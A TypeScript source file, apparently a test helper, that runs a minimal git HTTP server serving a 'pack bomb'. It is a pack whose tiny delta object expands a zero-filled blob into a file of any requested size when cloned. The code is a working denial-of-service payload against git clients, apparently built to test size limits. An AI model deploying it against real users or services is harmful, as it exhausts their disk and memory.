import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { type Exchange, type Part, type Reply, startPart } from './part.ts'

const [COMMIT, TREE, BLOB, REF_DELTA] = [1, 2, 3, 7]

/**
 * A git server of protocol version 0 (gitprotocol-http, gitprotocol-pack) with one commit, whose pack holds a delta of
 * a few bytes that stands for a file of this size.
 */
export function startPackBomb(bytes: number): Promise<Part> {
  const { pack, commit } = bombOf(bytes)
  const answer = async (exchange: Exchange): Promise<Reply> => {
    if (exchange.method === 'GET') {
      const refs = `${commit} HEAD\0shallow symref=HEAD:refs/heads/main\n`
      const body = `${packet('# service=git-upload-pack\n')}0000${packet(refs)}${packet(`${commit} refs/heads/main\n`)}0000`
      return reply('advertisement', Buffer.from(body))
    }
    const isWhole = (await exchange.read()).includes('done')
    const head = Buffer.from(`${packet(`shallow ${commit}`)}0000${isWhole ? packet('NAK\n') : ''}`)
    return reply('result', isWhole ? Buffer.concat([head, pack]) : head)
  }
  return startPart({ action: ({ method }) => method, answer })
}

const reply = (what: string, body: Buffer): Reply => ({
  status: 200,
  headers: { 'content-type': `application/x-git-upload-pack-${what}` },
  body,
})

const packet = (text: string): string => `${(text.length + 4).toString(16).padStart(4, '0')}${text}`

function bombOf(bytes: number): { pack: Buffer; commit: string } {
  const base = Buffer.alloc(0xffffff)
  const blob = idOf('blob', base)
  const tree = Buffer.concat([Buffer.from('100644 a\0'), Buffer.from(blob, 'hex')])
  const who = 'A <a@example.com> 1700000000 +0000'
  const text = `tree ${idOf('tree', tree)}\nauthor ${who}\ncommitter ${who}\n\nBomb\n`
  const objects = [
    entry(COMMIT, Buffer.from(text)),
    entry(TREE, tree),
    entry(BLOB, base),
    entry(REF_DELTA, deltaOf(base.length, bytes), Buffer.from(blob, 'hex')),
  ]
  const head = Buffer.concat([Buffer.from('PACK'), Buffer.of(0, 0, 0, 2, 0, 0, 0, objects.length)])
  const body = Buffer.concat([head, ...objects])
  const pack = Buffer.concat([body, createHash('sha1').update(body).digest()])
  return { pack, commit: idOf('commit', Buffer.from(text)) }
}

const idOf = (type: string, content: Buffer): string =>
  createHash('sha1').update(`${type} ${content.length}\0`).update(content).digest('hex')

/** Copies all of its base again and again (gitformat-pack, "Instruction to copy from base object"). */
function deltaOf(from: number, bytes: number): Buffer {
  const copies = Array.from({ length: Math.ceil(bytes / from) }, () => Buffer.of(0xf0, 0xff, 0xff, 0xff))
  return Buffer.concat([varint(from), varint(copies.length * from), ...copies])
}

function entry(type: number, content: Buffer, base = Buffer.alloc(0)): Buffer {
  const size = content.length
  const rest = size >> 4
  const first = (type << 4) | (size & 15) | (rest > 0 ? 0x80 : 0)
  return Buffer.concat([
    Buffer.of(first),
    rest > 0 ? varint(rest) : base.subarray(0, 0),
    base,
    deflateSync(content),
  ])
}

function varint(value: number): Buffer {
  const bytes: number[] = []
  let left = value
  for (; left > 0x7f; left = Math.floor(left / 0x80)) bytes.push((left % 0x80) | 0x80)
  return Buffer.of(...bytes, left)
}
